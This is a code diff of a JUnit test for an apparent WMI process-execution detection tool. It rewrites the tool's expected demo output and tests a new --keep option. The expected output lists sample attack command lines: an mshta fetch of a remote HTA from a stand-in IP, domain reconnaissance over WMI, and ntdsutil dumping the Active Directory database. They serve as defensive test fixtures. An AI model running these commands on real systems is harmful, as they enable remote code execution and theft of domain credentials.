@@ -7,69 +7,119 @@ import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Instant;
-import java.util.regex.Matcher;
-import java.util.regex.Pattern;
+import java.util.Set;
+import java.util.TreeSet;
+import java.util.stream.Collectors;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 class DemoCommandTest {
-    private static final Pattern FOLDER = Pattern.compile("(?<=all that came of them are in ).*");
-
     private static final String SHOWN = """
-        Running 'Process Execution via WMI' over 4,000 events of one Monday morning ...
+        'Process Execution via WMI' over 4,000 events of one Monday morning ...
 
-        FIRST SEEN (UTC)     DEST                      USER             SCORE  COUNT  COMMAND LINE                                                MARKS
-        2026-11-13 17:41:34  lt-0007.corp.example      CORP\\d.tanaka     49.0      1  mshta.exe http://198.51.100.7/update.hta                    late
-        2026-11-16 09:02:10  srv-files01.corp.example  CORP\\adm.petrov   49.0      1  cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1794819750...
-        2026-11-16 09:02:28  srv-files01.corp.example  CORP\\adm.petrov   49.0      2  cmd.exe /Q /c net group "Domain Admins" /domain 1> \\\\12...
-        2026-11-16 09:02:41  srv-sql02.corp.example    CORP\\adm.petrov   49.0      1  cmd.exe /Q /c tasklist 1> \\\\127.0.0.1\\ADMIN$\\__17948197...
-        2026-11-16 09:02:59  srv-sql02.corp.example    CORP\\adm.petrov   49.0      1  powershell.exe -NoP -W Hidden -Enc UwB0AGEAcgB0AC0AUwBs...
-        2026-11-16 09:03:08  srv-dc01.corp.example     CORP\\adm.petrov   49.0      1  cmd.exe /Q /c ntdsutil "ac i ntds" ifm "create full c:\\...
-        2026-11-16 09:03:23  srv-dc01.corp.example     CORP\\adm.petrov   49.0      1  cmd.exe /Q /c ntdsutil "ac i ntds" ifm "create full c:\\...
-        2026-11-18 09:28:21  kiosk-03.corp.example     KIOSK-03\\guest    49.0      1  calc.exe                                                    clock_skew
+                RISK  WHO              ATT&CK  SEVERITY  HOSTS
+        ATTACK   294  CORP\\adm.petrov  T1047   medium    3
+          srv-files01.corp.example, risk 98
+            2026-11-16 09:02:10Z  cmd.exe /Q /c whoami 1>
+                                  \\\\127.0.0.1\\ADMIN$\\__1794819750.21 2>&1
+            2026-11-16 09:02:28Z  [2 times] cmd.exe /Q /c net group "Domain Admins"
+                                  /domain 1> \\\\127.0.0.1\\ADMIN$\\__1794819750.21 2>&1
+          srv-sql02.corp.example, risk 98
+            2026-11-16 09:02:41Z  cmd.exe /Q /c tasklist 1>
+                                  \\\\127.0.0.1\\ADMIN$\\__1794819750.21 2>&1
+            2026-11-16 09:02:59Z  powershell.exe -NoP -W Hidden -Enc
+                                  UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAANgAwAA==
+          srv-dc01.corp.example, risk 98
+            2026-11-16 09:03:08Z  cmd.exe /Q /c ntdsutil "ac i ntds" ifm "create full
+                                  c:\\temp\\x4" q q
+            2026-11-16 09:03:23Z  cmd.exe /Q /c ntdsutil "ac i ntds" ifm "create full
+                                  c:\\temp\\x5" q q
+                  49  CORP\\d.tanaka    T1047   medium    1
+          lt-0007.corp.example, risk 49
+            2026-11-13 17:41:34Z  [late] mshta.exe http://198.51.100.7/update.hta
+                  49  KIOSK-03\\guest   T1047   medium    1
+          kiosk-03.corp.example, risk 49
+            2026-11-18 09:28:21Z  [clock_skew] calc.exe
+
+        ALLOWED inventory-service: 32 rows on 25 hosts. The inventory service asks every
+                machine what is in it (CHG-2291). Owner: endpoint-team@corp.example
 
           events read               4,000   in SECONDS
             process events          2,248
-              clock skew               16   time far ahead of arrival; reported, but moves no window
-            other events            1,746   in order, but no process creations
-            rejected                    6   could not be used; see rejected.jsonl
-          matched                      41   events, counted for each detection whose condition they meet
-            late                        1   after the allowed lateness; reported all the same
-          suppressed                   32   rows that the allowlist covers; see suppressed.jsonl
+              clock skew               16   far ahead of arrival; move no window
+            other events            1,746   valid, but not process creations
+            rejected                    6   unusable; see --keep
+          matched                      41   once for each detection they meet
+            late                        1   after the allowed lateness; still reported
+          suppressed                   32   rows that the allowlist covers; see --keep
           risk events                   9   each revision counted
 
-        The events and all that came of them are in FOLDER
-
         Try next
-          the same events without the allowlist:
-            java -jar job/target/spawnwatch.jar replay --input FOLDER/process-events.jsonl.gz --output -
+          keep the events, the allowlist and all that came of them:
+            java -jar job/target/spawnwatch.jar demo --keep DIR
           your own events and detections:
-            java -jar job/target/spawnwatch.jar replay --input DIR --output FILE.jsonl --detections DIR
+            java -jar job/target/spawnwatch.jar replay --input DIR \\
+              --detections DIR --output FILE.jsonl
           which of your detections run here, and why the others do not:
             java -jar job/target/spawnwatch.jar check --detections DIR
-          live on Kafka: 'Live use' in README.md; what an allowlist looks like:
-            FOLDER/allowlist.yml
+          live on Kafka: 'Live use' in README.md
         """;
 
     @Test
-    void showsTheSameEveryTimeAndLeavesItsFilesToLookAt() throws IOException {
+    void showsTheAttackAndWhatWasAllowedAndLeavesNothingBehind() throws IOException {
+        Path temporary = Path.of(System.getProperty("java.io.tmpdir"));
+        Set<String> before = names(temporary);
+        CommandRun run = CommandRun.successful("demo");
+
+        assertThat(run.err()).isEmpty();
+        assertThat(run.out().replaceFirst("in [0-9.]+ s\n", "in SECONDS\n")).isEqualTo(SHOWN);
+        assertThat(run.out().lines()).allSatisfy(line -> assertThat(line.length()).isLessThanOrEqualTo(80));
+        assertThat(names(temporary)).isEqualTo(before);
+    }
+
+    @Test
+    void keepsItsFilesOnRequest(@TempDir Path parent) throws IOException {
+        Path folder = parent.resolve("kept");
         for (int i = 0; i < 2; i++) {
-            CommandRun run = CommandRun.successful("demo");
-            Matcher named = FOLDER.matcher(run.out());
-            assertThat(named.find()).as(run.out()).isTrue();
-            Path folder = Path.of(named.group());
+            CommandRun run = CommandRun.successful("demo", "--keep", folder.toString());
 
             assertThat(run.err()).isEmpty();
-            assertThat(run.out().replace(folder.toString(), "FOLDER").replaceFirst("in [0-9.]+ s\n", "in SECONDS\n"))
-                    .isEqualTo(SHOWN);
+            assertThat(run.out())
+                    .contains("The events and all that came of them are in " + folder + "\n")
+                    .contains("      --input " + folder.resolve("events.jsonl.gz") + "\n")
+                    .contains("see suppressed.jsonl\n")
+                    .contains("see rejected.jsonl\n");
+            assertThat(names(folder))
+                    .containsExactly(
+                            "allowlist.yml",
+                            "events.jsonl.gz",
+                            "rejected.jsonl",
+                            "risk-events.jsonl",
+                            "suppressed.jsonl");
             assertThat(CommandRun.jsonLines(folder.resolve("risk-events.jsonl")))
                     .hasSize(9);
             assertThat(CommandRun.jsonLines(folder.resolve("suppressed.jsonl"))).hasSize(32);
             assertThat(CommandRun.jsonLines(folder.resolve("rejected.jsonl")).stream()
-                            .map(one -> one.get("reason").textValue()))
+                            .map(rejected -> rejected.get("reason").textValue()))
                     .containsExactly("malformed", "malformed", "timeless", "malformed", "malformed", "timeless");
-            delete(folder);
+        }
+    }
+
+    @Test
+    void aFolderThatCannotBeMadeIsNamed(@TempDir Path parent) throws IOException {
+        Path file = Files.writeString(parent.resolve("file"), "x");
+        CommandRun run = CommandRun.of("demo", "--keep", file.toString());
+
+        assertThat(run.exitCode()).isEqualTo(2);
+        assertThat(run.err()).startsWith("--keep: the files cannot be written to " + file);
+    }
+
+    private static Set<String> names(Path folder) throws IOException {
+        try (Stream<Path> files = Files.list(folder)) {
+            return files.map(file -> file.getFileName().toString())
+                    .filter(name -> !name.startsWith("hsperfdata"))
+                    .collect(Collectors.toCollection(TreeSet::new));
         }
     }
 
@@ -81,15 +131,15 @@ class DemoCommandTest {
         assertThat(run.out()).isEmpty();
         byte[] written = Files.readAllBytes(file);
         int lines = 0;
-        for (byte one : written) {
-            lines += one == '\n' ? 1 : 0;
+        for (byte character : written) {
+            lines += character == '\n' ? 1 : 0;
         }
         assertThat(lines).isEqualTo(4_000);
         assertThat(written[written.length - 1]).isEqualTo((byte) '\n');
     }
 
     @Test
-    void itsEventsKeepTheirTimesOnRequestOnly(@TempDir Path folder) throws IOException {
+    void eventsKeepTheirTimesOnRequestOnly(@TempDir Path folder) throws IOException {
         Path moved = folder.resolve("moved");
         Path kept = folder.resolve("kept");
         Instant before = Instant.now();
@@ -100,7 +150,7 @@ class DemoCommandTest {
         assertThat(Instant.parse(lastTime(moved))).isBetween(before.minusSeconds(60), Instant.now());
     }
 
-    /** That of the last event that was written by a Winlogbeat, which gives the time in one piece. */
+    /** The time of the last event in the form of Winlogbeat, whose time is a single field. */
     private static String lastTime(Path file) throws IOException {
         return Files.readAllLines(file).stream()
                 .filter(line -> line.startsWith("{\"@timestamp\":"))
@@ -111,19 +161,10 @@ class DemoCommandTest {
     }
 
     @Test
-    void keepingTimesIsRefusedWhereNoEventsAreWritten() {
+    void keepTimesNeedsWriteEvents() {
         CommandRun run = CommandRun.of("demo", "--keep-times");
         assertThat(run.exitCode()).isEqualTo(2);
         assertThat(run.err()).startsWith("--keep-times needs --write-events");
         assertThat(run.out()).isEmpty();
-    }
-
-    private static void delete(Path folder) throws IOException {
-        try (Stream<Path> files = Files.list(folder)) {
-            for (Path file : files.toList()) {
-                Files.delete(file);
-            }
-        }
-        Files.delete(folder);
     }
 }
